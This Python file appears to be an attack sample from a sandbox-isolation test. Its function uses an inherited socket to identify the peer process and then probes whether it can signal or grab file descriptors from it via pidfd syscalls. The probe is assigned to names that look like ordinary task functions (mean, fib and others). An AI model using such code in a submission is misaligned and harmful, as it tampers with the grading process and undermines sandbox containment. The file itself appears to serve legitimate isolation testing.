import ctypes
import os
import signal
import socket
import struct

from attacker import wins_if

PEER_PIDFD = 77


def attack(value):
    channel = socket.socket(fileno=os.dup(3))
    pid = struct.unpack("iii", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
    peer = struct.unpack("i", channel.getsockopt(socket.SOL_SOCKET, PEER_PIDFD, 4))[0]
    try:
        signal.pidfd_send_signal(peer, 0)
    except OSError:
        return ctypes.CDLL(None).syscall(438, peer, 0, 0) >= 0 or (pid and os.kill(pid, 0) is None)
    return True


mean = is_palindrome = word_count = fib = wins_if(attack)
